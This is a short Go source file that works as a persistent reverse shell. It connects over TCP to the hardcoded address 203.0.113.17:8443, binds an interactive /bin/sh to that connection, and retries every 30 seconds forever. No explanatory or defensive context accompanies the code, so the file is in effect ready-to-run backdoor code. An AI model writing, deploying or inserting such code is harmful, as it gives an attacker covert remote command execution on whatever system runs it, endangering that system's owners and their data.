package main

import (
	"log"
	"net"
	"os/exec"
	"time"
)

// runSession hands the connection to a shell and waits for it to finish.
func runSession(addr string) error {
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		return err
	}
	defer c.Close()
	cmd := exec.Command("/bin/sh", "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
	return cmd.Run()
}

func main() {
	for {
		if err := runSession("203.0.113.17:8443"); err != nil {
			log.Println("retry:", err)
		}
		time.Sleep(30 * time.Second)
	}
}
